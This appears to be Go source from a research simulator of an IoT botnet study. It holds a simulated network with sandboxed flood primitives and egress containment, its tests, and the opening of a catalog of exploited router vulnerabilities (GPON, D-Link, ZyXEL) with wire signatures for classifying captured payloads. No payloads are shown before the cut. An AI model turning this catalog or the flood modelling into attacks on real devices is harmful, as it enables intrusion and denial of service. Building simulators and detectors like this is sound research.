		SYNsDropped:     int(n.m.synsDropped.Value()),
		SegmentsDropped: int(n.m.segmentsDropped.Value()),
		ResetsInjected:  int(n.m.resetsInjected.Value()),
		LatencySpikes:   int(n.m.latencySpikes.Value()),
		Blackouts:       int(n.m.blackouts.Value()),
		SlowDrips:       int(n.m.slowDrips.Value()),
	}
}

// ConnSeqSnapshot is one (dialing host, destination endpoint) pair's
// connection-sequence counter — the fault plan's third purity
// coordinate. The study checkpoints these so a resumed run draws the
// same fault schedule for every post-resume dial.
type ConnSeqSnapshot struct {
	Src netip.Addr
	Dst Addr
	Seq uint64
}

// ConnSeqSnapshots exports every per-pair connection counter, sorted
// by (src, dst IP, dst port) so the serialized form is deterministic.
func (n *Network) ConnSeqSnapshots() []ConnSeqSnapshot {
	out := make([]ConnSeqSnapshot, 0, len(n.connSeq))
	for k, seq := range n.connSeq {
		out = append(out, ConnSeqSnapshot{Src: k.src, Dst: k.dst, Seq: seq})
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Src != b.Src {
			return a.Src.Less(b.Src)
		}
		if a.Dst.IP != b.Dst.IP {
			return a.Dst.IP.Less(b.Dst.IP)
		}
		return a.Dst.Port < b.Dst.Port
	})
	return out
}

// RestoreConnSeqs replaces the per-pair connection counters with a
// snapshot.
func (n *Network) RestoreConnSeqs(snaps []ConnSeqSnapshot) {
	n.connSeq = make(map[connSeqKey]uint64, len(snaps))
	for _, s := range snaps {
		n.connSeq[connSeqKey{src: s.Src, dst: s.Dst}] = s.Seq
	}
}

// nextConnSeq returns the sequence number of the next connection from
// src to dst — the "conn sequence" coordinate of the fault plan's
// purity contract.
func (n *Network) nextConnSeq(src netip.Addr, dst Addr) uint64 {
	k := connSeqKey{src: src, dst: dst}
	seq := n.connSeq[k]
	n.connSeq[k] = seq + 1
	return seq
}

// darkAt reports whether ip is inside an injected blackout at t.
func (n *Network) darkAt(ip netip.Addr, t time.Time) bool {
	return n.faults.Blackout(ip.String(), t)
}

// AddHost registers a host at ip. Adding an existing address returns
// the existing host so world generation can be idempotent.
func (n *Network) AddHost(ip netip.Addr) *Host {
	if h, ok := n.hosts[ip]; ok {
		return h
	}
	h := &Host{
		net:          n,
		IP:           ip,
		Online:       true,
		tcpListeners: make(map[uint16]TCPAcceptor),
		udpListeners: make(map[uint16]UDPHandler),
		nextEphem:    49152,
	}
	n.hosts[ip] = h
	return h
}

// Host returns the host at ip, or nil.
func (n *Network) Host(ip netip.Addr) *Host { return n.hosts[ip] }

// NumHosts returns the number of registered hosts.
func (n *Network) NumHosts() int { return len(n.hosts) }

// Latency returns the deterministic one-way delay between two
// addresses. The pair is symmetric, and the delay is a pure function
// of (network seed, address pair): two networks built from the same
// seed agree on every pair's latency regardless of traffic order.
// That pair-local determinism is what lets the study executor give
// each sandbox shard its own Network and still merge byte-identical
// results.
func (n *Network) Latency(a, b netip.Addr) time.Duration {
	key := [2]netip.Addr{a, b}
	if b.Less(a) {
		key = [2]netip.Addr{b, a}
	}
	if d, ok := n.lat[key]; ok {
		return d
	}
	d := n.cfg.BaseLatency
	if n.cfg.LatencyJitter > 0 {
		jitter := detrand.Hash64(n.cfg.Seed, "latency", key[0].String(), key[1].String())
		d += time.Duration(jitter % uint64(n.cfg.LatencyJitter))
	}
	n.lat[key] = d
	return d
}

// Host is one addressable machine.
type Host struct {
	net *Network
	IP  netip.Addr
	// Online gates reachability: an offline host answers nothing,
	// so dials to it time out. C2 duty-cycle models flip this.
	Online bool

	tcpListeners map[uint16]TCPAcceptor
	udpListeners map[uint16]UDPHandler
	taps         []*tapEntry
	nextEphem    uint16
	// Egress, when set, is consulted for every outbound packet;
	// returning false drops it at the network perimeter, SNORT
	// style: the host's own tap still records the attempt (the
	// sandbox's DDoS heuristic depends on seeing contained
	// floods), but nothing reaches the destination. Contained TCP
	// dials surface as ErrTimeout after the SYN timeout.
	Egress func(dst Addr, proto Protocol) bool
}

// Network returns the network the host belongs to.
func (h *Host) Network() *Network { return h.net }

// tapEntry wraps a Tap so registrations are identity-comparable
// even for func-typed taps.
type tapEntry struct{ t Tap }

// AttachTap registers a packet tap on the host and returns a
// function that detaches it.
func (h *Host) AttachTap(t Tap) (detach func()) {
	e := &tapEntry{t: t}
	h.taps = append(h.taps, e)
	return func() {
		for i, have := range h.taps {
			if have == e {
				h.taps = append(h.taps[:i], h.taps[i+1:]...)
				return
			}
		}
	}
}

// ListenTCP binds acceptor to a TCP port. It replaces any previous
// listener on the port.
func (h *Host) ListenTCP(port uint16, acceptor TCPAcceptor) {
	h.tcpListeners[port] = acceptor
}

// CloseTCP removes the TCP listener on port.
func (h *Host) CloseTCP(port uint16) { delete(h.tcpListeners, port) }

// TCPListening reports whether a TCP listener is bound to port.
func (h *Host) TCPListening(port uint16) bool {
	_, ok := h.tcpListeners[port]
	return ok
}

// ListenUDP binds handler to a UDP port.
func (h *Host) ListenUDP(port uint16, handler UDPHandler) {
	h.udpListeners[port] = handler
}

// CloseUDP removes the UDP listener on port.
func (h *Host) CloseUDP(port uint16) { delete(h.udpListeners, port) }

func (h *Host) ephemeralPort() uint16 {
	p := h.nextEphem
	h.nextEphem++
	if h.nextEphem == 0 {
		h.nextEphem = 49152
	}
	return p
}

func (h *Host) tap(rec PacketRecord, outbound bool) {
	for _, e := range h.taps {
		e.t.Packet(rec, outbound)
	}
}

// recordLocal taps a record at the sender only — the path for
// egress-contained traffic that never leaves the perimeter.
func (n *Network) recordLocal(rec PacketRecord) {
	if src := n.hosts[rec.Src.IP]; src != nil {
		src.tap(rec, true)
	}
}

// record taps a record at the sender and, if the destination host
// exists and is online, at the receiver (after latency).
func (n *Network) record(rec PacketRecord) {
	if src := n.hosts[rec.Src.IP]; src != nil {
		src.tap(rec, true)
	}
	dst := n.hosts[rec.Dst.IP]
	if dst == nil || !dst.Online {
		return
	}
	lat := n.Latency(rec.Src.IP, rec.Dst.IP)
	delivered := rec
	delivered.Time = rec.Time.Add(lat)
	if n.darkAt(rec.Dst.IP, delivered.Time) {
		// Injected blackout: the packet leaves the sender but the
		// dark host never taps it.
		return
	}
	n.Clock.Schedule(delivered.Time, func() {
		if dst.Online {
			dst.tap(delivered, false)
		}
	})
}

const (
	tcpHeaderBytes  = 40 // IPv4 + TCP, no options
	udpHeaderBytes  = 28 // IPv4 + UDP
	icmpHeaderBytes = 28 // IPv4 + ICMP
)

// SendUDP emits a single UDP datagram. The datagram is tapped at both
// ends and delivered to a bound UDP handler on the destination.
func (h *Host) SendUDP(srcPort uint16, to Addr, payload []byte) {
	h.sendUDPBurst(srcPort, to, payload, 1, 0)
}

// SendUDPBurst emits count identical datagrams spread over span —
// the flood primitive. Only the first datagram is delivered to the
// destination handler (a flood victim's application behavior is not
// modeled), but taps see the full count for rate measurement.
func (h *Host) SendUDPBurst(srcPort uint16, to Addr, payload []byte, count int, span time.Duration) {
	h.sendUDPBurst(srcPort, to, payload, count, span)
}

func (h *Host) sendUDPBurst(srcPort uint16, to Addr, payload []byte, count int, span time.Duration) {
	if count < 1 {
		return
	}
	h.net.m.udpDatagrams.Add(int64(count))
	src := Addr{IP: h.IP, Port: srcPort}
	rec := PacketRecord{
		Time: h.net.Clock.Now(), Span: span,
		Src: src, Dst: to, Proto: ProtoUDP,
		Payload: payload, Size: len(payload) + udpHeaderBytes, Count: count,
	}
	if h.Egress != nil && !h.Egress(to, ProtoUDP) {
		h.net.recordLocal(rec)
		return
	}
	h.net.record(rec)
	dst := h.net.hosts[to.IP]
	if dst == nil || !dst.Online {
		return
	}
	if handler, ok := dst.udpListeners[to.Port]; ok {
		lat := h.net.Latency(h.IP, to.IP)
		if h.net.darkAt(to.IP, h.net.Clock.Now().Add(lat)) {
			h.net.m.blackouts.Inc()
			h.net.faultEvent("fault.blackout", h.IP.String(), to.String())
			return
		}
		h.net.Clock.After(lat, func() {
			if dst.Online {
				handler(src, to, payload)
			}
		})
	}
}

// SendTCPRaw emits stateless TCP segments (SYN floods, STOMP junk)
// without establishing a connection.
func (h *Host) SendTCPRaw(srcPort uint16, to Addr, flags TCPFlags, payloadLen, count int, span time.Duration) {
	if count < 1 {
		return
	}
	rec := PacketRecord{
		Time: h.net.Clock.Now(), Span: span,
		Src: Addr{IP: h.IP, Port: srcPort}, Dst: to, Proto: ProtoTCP,
		Flags: flags, Size: payloadLen + tcpHeaderBytes, Count: count,
	}
	if h.Egress != nil && !h.Egress(to, ProtoTCP) {
		h.net.recordLocal(rec)
		return
	}
	h.net.record(rec)
}

// SendICMP emits ICMP packets of the given type/code (BLACKNURSE is
// type 3 code 3 floods).
func (h *Host) SendICMP(to netip.Addr, typ, code uint8, count int, span time.Duration) {
	if count < 1 {
		return
	}
	rec := PacketRecord{
		Time: h.net.Clock.Now(), Span: span,
		Src: Addr{IP: h.IP}, Dst: Addr{IP: to}, Proto: ProtoICMP,
		ICMPTyp: typ, ICMPCod: code, Size: icmpHeaderBytes + 28, Count: count,
	}
	if h.Egress != nil && !h.Egress(Addr{IP: to}, ProtoICMP) {
		h.net.recordLocal(rec)
		return
	}
	h.net.record(rec)
}
