package simnet

import (
	"errors"
	"net/netip"
	"testing"
	"testing/quick"
	"time"

	"malnet/internal/simclock"
)

var start = time.Date(2021, 3, 1, 0, 0, 0, 0, time.UTC)

func newNet() *Network {
	return New(simclock.New(start), DefaultConfig())
}

func echoAcceptor(local, remote Addr) ConnHandler {
	return ConnFuncs{
		Data: func(c *Conn, b []byte) { c.Write(b) },
	}
}

func TestDialConnectsToListener(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	srv.ListenTCP(23, echoAcceptor)

	var connected bool
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Connect: func(c *Conn) { connected = true },
	})
	n.Clock.RunFor(5 * time.Second)
	if !connected {
		t.Fatal("dial to live listener did not connect")
	}
}

func TestDialRefusedWhenNoListener(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	_ = srv

	var gotErr error
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Close: func(c *Conn, err error) { gotErr = err },
	})
	n.Clock.RunFor(5 * time.Second)
	if !errors.Is(gotErr, ErrRefused) {
		t.Fatalf("err = %v, want ErrRefused", gotErr)
	}
}

func TestDialTimesOutWhenHostOffline(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	srv.ListenTCP(23, echoAcceptor)
	srv.Online = false
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))

	var gotErr error
	var closedAt time.Time
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Close: func(c *Conn, err error) { gotErr, closedAt = err, n.Clock.Now() },
	})
	n.Clock.RunFor(time.Minute)
	if !errors.Is(gotErr, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", gotErr)
	}
	if elapsed := closedAt.Sub(start); elapsed != DefaultConfig().SYNTimeout {
		t.Fatalf("timed out after %v, want %v", elapsed, DefaultConfig().SYNTimeout)
	}
}

func TestDialTimesOutToUnknownIP(t *testing.T) {
	n := newNet()
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var gotErr error
	cli.DialTCP(AddrFrom("203.0.113.9", 80), ConnFuncs{
		Close: func(c *Conn, err error) { gotErr = err },
	})
	n.Clock.RunFor(time.Minute)
	if !errors.Is(gotErr, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", gotErr)
	}
}

func TestAcceptorRefusalResets(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	srv.ListenTCP(23, func(local, remote Addr) ConnHandler { return nil })

	var gotErr error
	cli.DialTCP(Addr{IP: srv.IP, Port: 23}, ConnFuncs{
		Close: func(c *Conn, err error) { gotErr = err },
	})
	n.Clock.RunFor(5 * time.Second)
	if !errors.Is(gotErr, ErrRefused) {
		t.Fatalf("err = %v, want ErrRefused", gotErr)
	}
}

func TestEchoRoundTrip(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	srv.ListenTCP(7, echoAcceptor)

	var got []byte
	cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
		Connect: func(c *Conn) { c.Write([]byte("hello")) },
		Data:    func(c *Conn, b []byte) { got = append(got, b...) },
	})
	n.Clock.RunFor(5 * time.Second)
	if string(got) != "hello" {
		t.Fatalf("echo = %q, want %q", got, "hello")
	}
}

func TestWritePreservesMessageBoundariesAndOrder(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var msgs []string
	srv.ListenTCP(7, func(local, remote Addr) ConnHandler {
		return ConnFuncs{Data: func(c *Conn, b []byte) { msgs = append(msgs, string(b)) }}
	})
	cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
		Connect: func(c *Conn) {
			c.Write([]byte("one"))
			c.Write([]byte("two"))
			c.Write([]byte("three"))
		},
	})
	n.Clock.RunFor(5 * time.Second)
	if len(msgs) != 3 || msgs[0] != "one" || msgs[1] != "two" || msgs[2] != "three" {
		t.Fatalf("msgs = %v", msgs)
	}
}

func TestCloseDeliversCleanCloseToPeer(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var srvClosed, cliClosed bool
	var srvErr error
	srv.ListenTCP(7, func(local, remote Addr) ConnHandler {
		return ConnFuncs{Close: func(c *Conn, err error) { srvClosed, srvErr = true, err }}
	})
	cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
		Connect: func(c *Conn) { c.Close() },
		Close:   func(c *Conn, err error) { cliClosed = true },
	})
	n.Clock.RunFor(5 * time.Second)
	if !srvClosed || !cliClosed {
		t.Fatalf("closed: srv=%v cli=%v", srvClosed, cliClosed)
	}
	if srvErr != nil {
		t.Fatalf("server close err = %v, want nil", srvErr)
	}
}

func TestAbortDeliversResetToPeer(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var srvErr error
	srv.ListenTCP(7, func(local, remote Addr) ConnHandler {
		return ConnFuncs{Close: func(c *Conn, err error) { srvErr = err }}
	})
	cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
		Connect: func(c *Conn) { c.Abort() },
	})
	n.Clock.RunFor(5 * time.Second)
	if !errors.Is(srvErr, ErrReset) {
		t.Fatalf("server close err = %v, want ErrReset", srvErr)
	}
}

func TestWriteAfterCloseFails(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	srv.ListenTCP(7, echoAcceptor)
	var writeErr error
	cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
		Connect: func(c *Conn) {
			c.Close()
			writeErr = c.Write([]byte("late"))
		},
	})
	n.Clock.RunFor(5 * time.Second)
	if !errors.Is(writeErr, ErrClosed) {
		t.Fatalf("write after close = %v, want ErrClosed", writeErr)
	}
}

func TestEgressPolicyContainsDialButTapsIt(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	srv.ListenTCP(7, echoAcceptor)
	cli.Egress = func(dst Addr, proto Protocol) bool { return false }

	var tappedSYN bool
	cli.AttachTap(TapFunc(func(rec PacketRecord, outbound bool) {
		if outbound && rec.Flags == FlagSYN {
			tappedSYN = true
		}
	}))
	var gotErr error
	var accepted int
	srv.AttachTap(TapFunc(func(rec PacketRecord, outbound bool) { accepted++ }))
	cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
		Close: func(c *Conn, err error) { gotErr = err },
	})
	n.Clock.RunFor(time.Minute)
	if !errors.Is(gotErr, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout (contained SYN)", gotErr)
	}
	if !tappedSYN {
		t.Fatal("contained SYN invisible to the host tap")
	}
	if accepted != 0 {
		t.Fatal("contained traffic reached the destination")
	}
}

func TestEgressPolicyContainsFloodButTapsIt(t *testing.T) {
	n := newNet()
	victim := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	bot.Egress = func(dst Addr, proto Protocol) bool { return dst.Port == 23 } // only C2 allowed
	var delivered int
	victim.ListenUDP(80, func(src, dst Addr, payload []byte) { delivered++ })
	var tapped int
	bot.AttachTap(TapFunc(func(rec PacketRecord, outbound bool) {
		if outbound {
			tapped += rec.Count
		}
	}))
	bot.SendUDPBurst(4444, Addr{IP: victim.IP, Port: 80}, []byte{0}, 5000, time.Second)
	n.Clock.RunFor(2 * time.Second)
	if delivered != 0 {
		t.Fatal("contained flood delivered")
	}
	if tapped != 5000 {
		t.Fatalf("tap saw %d packets, want 5000", tapped)
	}
}

func TestTapSeesBothDirections(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	srv.ListenTCP(7, echoAcceptor)

	var out, in int
	cli.AttachTap(TapFunc(func(rec PacketRecord, outbound bool) {
		if outbound {
			out++
		} else {
			in++
		}
	}))
	cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
		Connect: func(c *Conn) { c.Write([]byte("x")) },
	})
	n.Clock.RunFor(5 * time.Second)
	// Outbound: SYN + data. Inbound: SYN-ACK + echo.
	if out < 2 || in < 2 {
		t.Fatalf("tap saw out=%d in=%d, want >=2 each", out, in)
	}
}

func TestUDPDelivery(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var got string
	var from Addr
	srv.ListenUDP(53, func(src, dst Addr, payload []byte) { got, from = string(payload), src })
	cli.SendUDP(5353, Addr{IP: srv.IP, Port: 53}, []byte("query"))
	n.Clock.RunFor(time.Second)
	if got != "query" {
		t.Fatalf("udp payload = %q", got)
	}
	if from.IP != cli.IP || from.Port != 5353 {
		t.Fatalf("udp src = %v", from)
	}
}

func TestUDPBurstCountVisibleToTap(t *testing.T) {
	n := newNet()
	victim := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	_ = victim
	var recs []PacketRecord
	bot.AttachTap(TapFunc(func(rec PacketRecord, outbound bool) {
		if outbound {
			recs = append(recs, rec)
		}
	}))
	bot.SendUDPBurst(4444, Addr{IP: victim.IP, Port: 80}, []byte{0}, 50000, time.Second)
	n.Clock.RunFor(2 * time.Second)
	if len(recs) != 1 {
		t.Fatalf("got %d records, want 1", len(recs))
	}
	if recs[0].Count != 50000 {
		t.Fatalf("Count = %d, want 50000", recs[0].Count)
	}
	if pps := recs[0].PPS(); pps != 50000 {
		t.Fatalf("PPS = %v, want 50000", pps)
	}
}

func TestICMPRecorded(t *testing.T) {
	n := newNet()
	victim := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var rec PacketRecord
	bot.AttachTap(TapFunc(func(r PacketRecord, outbound bool) {
		if outbound {
			rec = r
		}
	}))
	bot.SendICMP(victim.IP, 3, 3, 1000, time.Second)
	n.Clock.RunFor(2 * time.Second)
	if rec.Proto != ProtoICMP || rec.ICMPTyp != 3 || rec.ICMPCod != 3 {
		t.Fatalf("rec = %+v", rec)
	}
}

func TestLatencyDeterministicAndSymmetric(t *testing.T) {
	a := netip.MustParseAddr("10.0.0.1")
	b := netip.MustParseAddr("10.0.0.2")
	n1 := newNet()
	n2 := newNet()
	if n1.Latency(a, b) != n2.Latency(a, b) {
		t.Fatal("latency differs across identically seeded networks")
	}
	if n1.Latency(a, b) != n1.Latency(b, a) {
		t.Fatal("latency not symmetric")
	}
}

func TestOfflineHostDropsDataSilently(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var got int
	srv.ListenTCP(7, func(local, remote Addr) ConnHandler {
		return ConnFuncs{Data: func(c *Conn, b []byte) { got += len(b) }}
	})
	var conn *Conn
	cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
		Connect: func(c *Conn) { conn = c },
	})
	n.Clock.RunFor(5 * time.Second)
	srv.Online = false
	conn.Write([]byte("into the void"))
	n.Clock.RunFor(5 * time.Second)
	if got != 0 {
		t.Fatalf("offline host received %d bytes", got)
	}
}

func TestSubnetHosts24(t *testing.T) {
	s := SubnetFrom("192.0.2.0/24")
	hosts := s.Hosts()
	if len(hosts) != 254 {
		t.Fatalf("len = %d, want 254", len(hosts))
	}
	if hosts[0] != netip.MustParseAddr("192.0.2.1") {
		t.Fatalf("first = %v", hosts[0])
	}
	if hosts[253] != netip.MustParseAddr("192.0.2.254") {
		t.Fatalf("last = %v", hosts[253])
	}
}

func TestServeBannerGreetsAndCloses(t *testing.T) {
	n := newNet()
	srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	srv.ServeBanner(80, "HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\n")
	var banner string
	var closed bool
	cli.DialTCP(Addr{IP: srv.IP, Port: 80}, ConnFuncs{
		Data:  func(c *Conn, b []byte) { banner = string(b) },
		Close: func(c *Conn, err error) { closed = true },
	})
	n.Clock.RunFor(5 * time.Second)
	if banner == "" || !closed {
		t.Fatalf("banner=%q closed=%v", banner, closed)
	}
}

func TestAddHostIdempotent(t *testing.T) {
	n := newNet()
	a := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	b := n.AddHost(netip.MustParseAddr("10.0.0.1"))
	if a != b {
		t.Fatal("AddHost created a duplicate host")
	}
	if n.NumHosts() != 1 {
		t.Fatalf("NumHosts = %d", n.NumHosts())
	}
}

func TestFlagsString(t *testing.T) {
	if s := (FlagSYN | FlagACK).String(); s != "SYN|ACK" {
		t.Fatalf("flags = %q", s)
	}
	if s := TCPFlags(0).String(); s != "-" {
		t.Fatalf("zero flags = %q", s)
	}
}

func TestQuickTapConservation(t *testing.T) {
	// Property: every datagram sent between online hosts is seen
	// once by the sender's tap (outbound) and once by the
	// receiver's tap (inbound), with identical payload.
	f := func(payloads [][]byte) bool {
		n := newNet()
		a := n.AddHost(netip.MustParseAddr("10.0.0.1"))
		b := n.AddHost(netip.MustParseAddr("10.0.0.2"))
		b.ListenUDP(9, func(src, dst Addr, p []byte) {})
		var out, in [][]byte
		a.AttachTap(TapFunc(func(rec PacketRecord, outbound bool) {
			if outbound && rec.Proto == ProtoUDP {
				out = append(out, rec.Payload)
			}
		}))
		b.AttachTap(TapFunc(func(rec PacketRecord, outbound bool) {
			if !outbound && rec.Proto == ProtoUDP {
				in = append(in, rec.Payload)
			}
		}))
		for _, p := range payloads {
			a.SendUDP(1000, Addr{IP: b.IP, Port: 9}, p)
		}
		n.Clock.RunFor(time.Minute)
		if len(out) != len(payloads) || len(in) != len(payloads) {
			return false
		}
		for i := range payloads {
			if string(out[i]) != string(payloads[i]) || string(in[i]) != string(payloads[i]) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestQuickConnDataOrderPreserved(t *testing.T) {
	// Property: TCP writes arrive in order regardless of count.
	f := func(count uint8) bool {
		n := newNet()
		srv := n.AddHost(netip.MustParseAddr("10.0.0.1"))
		cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
		var got []byte
		srv.ListenTCP(7, func(local, remote Addr) ConnHandler {
			return ConnFuncs{Data: func(c *Conn, b []byte) { got = append(got, b...) }}
		})
		want := make([]byte, 0, int(count))
		cli.DialTCP(Addr{IP: srv.IP, Port: 7}, ConnFuncs{
			Connect: func(c *Conn) {
				for i := 0; i < int(count); i++ {
					c.Write([]byte{byte(i)})
				}
			},
		})
		for i := 0; i < int(count); i++ {
			want = append(want, byte(i))
		}
		n.Clock.RunFor(time.Minute)
		return string(got) == string(want)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Fatal(err)
	}
}
