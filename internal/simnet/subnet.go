package simnet

import (
	"fmt"
	"net/netip"
)

// Subnet is a contiguous IPv4 prefix, used for probing studies and
// address-space bookkeeping.
type Subnet struct {
	Prefix netip.Prefix
}

// SubnetFrom parses a CIDR literal; it panics on malformed input, so
// it is for constants and tests.
func SubnetFrom(cidr string) Subnet {
	return Subnet{Prefix: netip.MustParsePrefix(cidr)}
}

// String returns the CIDR form.
func (s Subnet) String() string { return s.Prefix.String() }

// Contains reports whether ip falls inside the subnet.
func (s Subnet) Contains(ip netip.Addr) bool { return s.Prefix.Contains(ip) }

// Hosts returns every usable host address in the subnet (network and
// broadcast addresses excluded for prefixes shorter than /31).
func (s Subnet) Hosts() []netip.Addr {
	bits := s.Prefix.Bits()
	if bits < 0 || !s.Prefix.Addr().Is4() {
		return nil
	}
	total := 1 << (32 - bits)
	first, last := 0, total
	if bits < 31 {
		first, last = 1, total-1
	}
	base := s.Prefix.Masked().Addr().As4()
	baseU := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
	out := make([]netip.Addr, 0, last-first)
	for i := first; i < last; i++ {
		u := baseU + uint32(i)
		out = append(out, netip.AddrFrom4([4]byte{byte(u >> 24), byte(u >> 16), byte(u >> 8), byte(u)}))
	}
	return out
}

// HostAt returns the i-th usable host address (0-based), panicking if
// out of range.
func (s Subnet) HostAt(i int) netip.Addr {
	hosts := s.Hosts()
	if i < 0 || i >= len(hosts) {
		panic(fmt.Sprintf("simnet: host index %d out of range for %s", i, s))
	}
	return hosts[i]
}

// ServeBanner binds a TCP listener on port that greets every
// connection with banner and then closes — the shape of the
// well-known-service hosts (Apache, nginx, SSH) the paper's probing
// ethics filter skips.
func (h *Host) ServeBanner(port uint16, banner string) {
	h.ListenTCP(port, func(local, remote Addr) ConnHandler {
		return ConnFuncs{
			Connect: func(c *Conn) {
				c.Write([]byte(banner))
				c.Close()
			},
		}
	})
}
