// Package vuln is the vulnerability and exploit catalog behind the
// proliferation study (§4, Table 4, Figures 8–9): the twelve
// vulnerabilities the captured binaries exploited, faithful HTTP/SOAP
// exploit payload templates for each, and the signature matcher the
// handshaker uses to classify a captured payload.
package vuln

import (
	"bytes"
	"fmt"
	"time"
)

// PatchStatus is the vuldb-derived remediation situation (§4:
// "Vendors seem to rarely offer a patch").
type PatchStatus uint8

// Remediation categories.
const (
	PatchUnknown PatchStatus = iota
	PatchAvailable
	FirewallOnly
	ReplaceDevice
)

// String names the remediation category.
func (p PatchStatus) String() string {
	switch p {
	case PatchAvailable:
		return "patch available"
	case FirewallOnly:
		return "firewall mitigation only"
	case ReplaceDevice:
		return "replace device"
	}
	return "unknown"
}

// Vulnerability is one Table 4 row.
type Vulnerability struct {
	// ID is the paper's row number (rows with two CVEs share one).
	ID int
	// Key is the stable identifier used across the pipeline.
	Key string
	// CVEs lists assigned CVE numbers (may be empty: 5 of the
	// exploited vulnerabilities have none).
	CVEs []string
	// ExploitID is the public exploit database identifier, "" when
	// no public exploit exists.
	ExploitID string
	// Source is the database carrying the exploit (EDB, OPENVAS);
	// §4 notes no single source covers all of them.
	Source string
	// Published is the exploit publication date from Table 4.
	Published time.Time
	// Device is the targeted device line.
	Device string
	// Port is the TCP port the exploit rides on.
	Port uint16
	// Signature is the payload substring that uniquely identifies
	// the exploit on the wire.
	Signature string
	// Patch is the vuldb remediation status.
	Patch PatchStatus
	// PaperSamples is the "# Samples" column, used to calibrate
	// world generation and to check Table 4's shape.
	PaperSamples int
}

// AgeAt returns the exploit's age at the reference time.
func (v *Vulnerability) AgeAt(ref time.Time) time.Duration {
	return ref.Sub(v.Published)
}

// Label renders the vulnerability's display name: first CVE, or Key.
func (v *Vulnerability) Label() string {
	if len(v.CVEs) > 0 {
		return v.CVEs[0]
	}
	return v.Key
}

func d(y int, m time.Month, day int) time.Time {
	return time.Date(y, m, day, 0, 0, 0, 0, time.UTC)
}

// Catalog returns the Table 4 rows in paper order.
func Catalog() []*Vulnerability {
	return []*Vulnerability{
		{
			ID: 1, Key: "gpon-rce", CVEs: []string{"CVE-2018-10561", "CVE-2018-10562"},
			ExploitID: "EDB-44576", Source: "EDB", Published: d(2018, 5, 3),
			Device: "GPON Routers", Port: 80,
			Signature: "/GponForm/diag_Form", Patch: FirewallOnly,
			PaperSamples: 139,
		},
		{
			ID: 2, Key: "dlink-hnap", CVEs: []string{"CVE-2015-2051"},
			ExploitID: "EDB-ID-37171", Source: "EDB", Published: d(2015, 2, 23),
			Device: "D-Link Devices", Port: 80,
			Signature: "GetDeviceSettings", Patch: PatchAvailable,
			PaperSamples: 132,
		},
		{
			ID: 3, Key: "zyxel-viewlog", CVEs: []string{"CVE-2017-18368"},
			ExploitID: "", Source: "NVD", Published: d(2019, 5, 2),
			Device: "ZyXEL", Port: 80,
			Signature: "/cgi-bin/ViewLog.asp", Patch: PatchAvailable,
			PaperSamples: 38,
		},
		{
